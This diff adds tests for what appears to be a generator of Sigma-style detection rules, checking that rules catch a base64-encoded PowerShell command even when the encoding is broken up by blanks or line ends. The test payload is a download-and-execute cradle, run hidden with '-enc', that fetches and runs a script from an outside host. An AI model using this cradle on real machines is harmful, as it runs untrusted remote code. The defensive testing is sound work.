@@ -262,3 +262,38 @@ describe('commands of hosts', () => {
     expect(rules.map(({ title }) => title)).toEqual([expect.stringContaining('Unsigned Files Allowed')]);
   });
 });
+
+describe('an encoded script', () => {
+  const payload = Buffer.from(
+    "IEX (New-Object Net.WebClient).DownloadString('http://heronmill.top/fen.ps1')",
+    'utf16le',
+  ).toString('base64');
+  const cut = (at: number, by: string): string => `${payload.slice(0, at)}${by}${payload.slice(at)}`;
+
+  it.each([
+    ['whole', payload],
+    ['broken by a blank', cut(90, ' ')],
+    ['broken by a line end', cut(117, '\n')],
+    [
+      'broken by both, at places that are no multiple of four',
+      cut(121, '\n').replace(payload.slice(0, 41), `${payload.slice(0, 41)} `),
+    ],
+  ])('is one value, %s', async (_form, text) => {
+    const rules = await rulesOf(`powershell.exe -nop -w hidden -enc ${text}`);
+    const rule = rules.find(({ yaml }) => yaml.includes('base64offset')) as GeneratedRule;
+    expect(rule.yaml).not.toMatch(/'[A-Za-z0-9+/]{12,}={0,2}'/);
+    expect(
+      matches(rule, {
+        Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+        CommandLine: `powershell.exe -nop -w hidden -enc ${payload}`,
+      }),
+    ).toBe(true);
+  });
+
+  it('ends before the words of the sentence', async () => {
+    const [command] = await commandsOf(`powershell.exe -enc ${payload} Subsequently the loader rested`);
+    const rules = await rulesOf(`powershell.exe -enc ${payload} -Argument Subsequently`);
+    expect(command?.value).toContain(payload);
+    expect(rules.some(({ yaml }) => yaml.includes('base64offset'))).toBe(true);
+  });
+});
